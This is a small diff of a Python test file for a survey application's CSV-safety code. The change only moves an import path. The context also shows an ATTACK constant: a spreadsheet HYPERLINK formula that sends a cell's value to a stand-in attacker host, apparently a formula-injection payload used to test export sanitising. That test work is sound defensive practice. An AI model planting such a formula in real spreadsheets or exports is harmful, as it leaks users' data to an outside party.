@@ -18,7 +18,7 @@ import sqlalchemy as sa
 
 from survey.core.text_safety import FORMULA_STARTERS, csv_cell, csv_value
 from survey.models import Answer, Question, Unit
-from survey.surveys.catalog import survey_by_code
+from survey.responses.catalog import survey_by_code
 from tests.factories import make_organization, make_surveyed_commune, make_unit, submit_and_commit
 
 ATTACK = 'HYPERLINK("http://attacker.example/?leak="&B2,"Bấm vào đây")'
